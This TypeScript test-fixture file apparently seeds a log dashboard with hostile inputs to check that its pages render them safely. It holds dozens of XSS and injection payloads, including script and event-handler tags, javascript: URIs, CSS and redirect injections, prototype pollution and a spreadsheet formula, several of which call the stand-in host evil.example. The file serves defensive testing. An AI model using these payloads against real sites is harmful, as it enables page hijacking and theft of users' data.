/** Texts by which somebody would script, style, link or break the page that shows them: a kind a line. */
export const hostileTexts: readonly string[] = [
  "<script>window.hacked=1</script>",
  "<ScRiPt >window.hacked=1</sCrIpT>",
  "<scr<script>ipt>window.hacked=1</scr</script>ipt>",
  "<script src=//evil.example/x.js></script>",
  "<script type=module>import('//evil.example/x.js')</script>",
  "<img src=x onerror=window.hacked=1>",
  "<img src=x onerror=&#119;indow.hacked=1>",
  "<img src=//evil.example/pixel.gif>",
  "<img srcset='//evil.example/a.gif 1x'>",
  "<picture><source srcset=//evil.example/b.gif></picture>",
  "<svg onload=window.hacked=1>",
  "<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s>",
  "<svg><script>window.hacked=1</script></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x onload=window.hacked=1>#x'/></svg>",
  "<svg><foreignObject><body onload=window.hacked=1></foreignObject></svg>",
  "<style>*{display:none!important}</style>",
  "<style>@import '//evil.example/x.css'</style>",
  "<p style='position:fixed;inset:0;background:url(//evil.example/c.gif)'>cover</p>",
  "</style><style>.nav{display:none}</style>",
  '<link rel=stylesheet href="http://evil.example/x.css">',
  "<link rel=prefetch href=//evil.example/p>",
  "<link rel=dns-prefetch href=//evil.example>",
  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  "<iframe src=javascript:parent.hacked=1></iframe>",
  "<object data=javascript:window.hacked=1></object>",
  "<embed src=//evil.example/x.swf>",
  '<a href="javascript:window.hacked=1">press</a>',
  "<a href=//evil.example ping=//evil.example/ping>press</a>",
  "<area href=javascript:window.hacked=1>",
  "javascript:window.hacked=1",
  "java\tscript:window.hacked=1",
  "vbscript:window.hacked=1",
  "data:text/html,<script>window.hacked=1</script>",
  "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=",
  '"><script>window.hacked=1</script>',
  "'><img src=x onerror=window.hacked=1>",
  "' onmouseover=window.hacked=1 x='",
  '" autofocus onfocus=window.hacked=1 x="',
  "`-window.hacked=1-`",
  "'-alert(1)-'",
  "\\u003cscript\\u003ewindow.hacked=1\\u003c/script\\u003e",
  "&lt;script&gt;window.hacked=1&lt;/script&gt;",
  "%3Cscript%3Ewindow.hacked=1%3C/script%3E",
  "{{constructor.constructor('window.hacked=1')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a line of a log that looks like a template
  "${window.hacked=1}",
  "<%= window.hacked=1 %>",
  "<base href=http://evil.example/>",
  '<meta http-equiv=refresh content="0;url=http://evil.example/">',
  '<meta http-equiv=Content-Security-Policy content="script-src *">',
  '<form action="http://evil.example/"><button>go</button></form>',
  "<button formaction=javascript:window.hacked=1>go</button>",
  "<input autofocus onfocus=window.hacked=1>",
  "<template><script>window.hacked=1</script></template>",
  "<math><mi//xlink:href='data:x,<script>window.hacked=1</script>'>",
  "<details open ontoggle=window.hacked=1>",
  "<body onload=window.hacked=1>",
  "<video autoplay src=//evil.example/v.mp4 onerror=window.hacked=1></video>",
  "<audio src=x onerror=window.hacked=1>",
  "<dialog open onclose=window.hacked=1>",
  "<slot onslotchange=window.hacked=1>",
  "]]>--></textarea></title></style></script><script>window.hacked=1</script>",
  "[press](javascript:window.hacked=1) ![i](//evil.example/m.gif)",
  "\u001b[31mred\u001b[0m \u001b]8;;http://evil.example\u0007link\u001b]8;;\u0007",
  "\u202etxt.exe\u202c \u2066hidden\u2069",
  "\u0000\u0007\u0008\ufeff\u200b\u200d",
  "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034d A\u036b\u0357\u0334\u0362\u0335\u031c\u0330\u0354L\u0368\u0367\u0369\u0358\u0320G\u0311\u0357\u030e\u0305\u035b\u0341\u0334\u033b\u0348\u034d\u0354\u0339O",
  "x".repeat(3_000),
  "\ud83d\ude00".repeat(500),
  "line\r\nbreak\u2028separator\u2029paragraph\u0085next",
  '{"__proto__":{"hacked":1}}',
  '=HYPERLINK("http://evil.example")',
];

const keys = [
  "__proto__",
  "constructor",
  "toString",
  "hasOwnProperty",
  "<b>bold</b>",
  "a b",
  "on click",
  "style",
  "innerHTML",
];

/** A source whose every free text is hostile. */
export const hostileSource: object = {
  name: "hostile",
  description: "<img src=x onerror=window.hacked=1>",
  aliases: ["<script>window.hacked=1</script>"],
  tenant: "project",
  retention_days: { default: 3_650, tenants: { "<b>": 7 } },
};

/** Endpoints whose every free text is hostile. */
export const hostileEndpoints: readonly object[] = hostileTexts
  .filter((text) => text.includes("hacked") && text.length < 120)
  .slice(0, 12)
  .map((text, index) => ({
    name: `hostile.${index}`,
    description: text,
    query: "SELECT timestamp, id, event_message FROM edge WHERE @who IS NULL OR project = @who ORDER BY timestamp DESC",
    parameters: { who: { type: "string", description: text } },
    labels: { note: text },
  }));

const between = "timestamp BETWEEN TIMESTAMP_SUB(CURRENT_TIMESTAMP(), INTERVAL 5 MINUTE) AND CURRENT_TIMESTAMP()";

/** An alert that fired on the sample events, and others whose every free text and group is hostile. */
export const demoAlerts: readonly object[] = [
  {
    name: "failing-paths",
    every: "2m",
    sql: `SELECT metadata.request.path AS path, COUNT(*) AS n FROM edge WHERE ${between} AND metadata.response.status_code >= 400 GROUP BY path`,
    when: { column: "n", op: ">=", value: 3 },
    group_by: ["path"],
    severity: "critical",
    message: "{{n}} failures of {{path}}",
  },
  ...hostileTexts
    .filter((text) => text.includes("hacked") && text.length < 120)
    .slice(0, 3)
    .map((text) => ({
      name: text,
      description: text,
      every: "10s",
      sql: "SELECT event_message AS text FROM edge WHERE project = 'hostile' ORDER BY timestamp LIMIT 40",
      group_by: ["text"],
      message: text,
      enabled: true,
    })),
];

/** Destinations of drains, one with hostile texts; the rule of the first selects no sample event, so nothing is sent. */
export const demoBackends: readonly object[] = [
  {
    name: "archive",
    type: "s3",
    config: { url: "https://s3.example.com/logs", access_key_id: "id", secret_access_key: "not-shown" },
  },
  {
    name: "<img src=x onerror=window.hacked=1>",
    description: "<script>window.hacked=1</script>",
    type: "webhook",
    config: { url: "https://hooks.example.com/<script>window.hacked=1</script>", headers: { "X-Team": "<b>" } },
  },
];

/** Events of a project, newest last; each text stands in the message, in a value, and in the name of a field. */
export function hostileEvents(project: string, nowMs: number): readonly object[] {
  const lines = hostileTexts.map((text, index) => ({
    id: `hostile-${index}`,
    timestamp: new Date(nowMs - (hostileTexts.length - index) * 1_000).toISOString(),
    project,
    event_message: text,
    metadata: {
      level: index % 2 === 0 ? "error" : text.slice(0, 60),
      value: text,
      named: { [text.slice(0, 100)]: index },
    },
  }));
  const wide = Object.fromEntries(Array.from({ length: 300 }, (_, index) => [`field_${index}`, index]));
  const odd = Object.fromEntries(keys.map((key) => [key, key]));
  return [
    ...lines,
    { timestamp: new Date(nowMs - 500).toISOString(), project, event_message: "many keys", metadata: { wide, odd } },
    {
      timestamp: new Date(nowMs - 400).toISOString(),
      project,
      event_message: "y".repeat(1_000_000),
      metadata: { level: "info" },
    },
  ];
}
